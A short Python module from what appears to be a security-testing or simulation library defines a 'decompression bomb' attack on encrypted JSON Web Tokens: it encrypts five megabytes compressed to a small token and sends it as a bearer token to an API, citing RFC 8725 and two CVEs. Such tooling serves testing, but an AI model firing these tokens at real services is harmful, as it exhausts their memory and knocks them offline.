"""A small encrypted token that becomes a large one."""

from typing import ClassVar

from simlib.attacks.base import Candidate, Inapplicable, OnTokens, Preparation, send
from simlib.scenario.effects import Answer, Context, Flow
from simlib.scenario.messages import HttpRequest
from simlib.tokens import encrypt_to

INFLATED_BYTES = 5_000_000
"""Deflates to a thousandth, so that it fits into a header."""


class DecompressionBomb(OnTokens):
    """Encryption hides from everybody but the victim what is inside."""

    name: ClassVar[str] = "decompression_bomb"
    summary: ClassVar[str] = "an encrypted token that is compressed a thousandfold"
    source: ClassVar[str] = "RFC 8725 section 3.6; CVE-2024-33664, CVE-2024-21319"
    needs: ClassVar[tuple[str, ...]] = ("encryption_jwk",)
    once: ClassVar[bool] = True
    excess: ClassVar[int] = 1_000_000

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Compress and encrypt."""
        yield from ()
        if self.loot.encryption_jwk is None:
            return Inapplicable("no tokens are decrypted here")
        bomb = encrypt_to(b"A" * INFLATED_BYTES, self.loot.encryption_jwk, compressed=True)
        return (Candidate(f"{len(bomb):,} bytes that become {INFLATED_BYTES:,}", bomb),)

    def strike(self, ctx: Context, candidate: Candidate) -> Flow[Answer]:
        """As a bearer token."""
        return send("api", HttpRequest(f"Bearer {candidate.value}"))
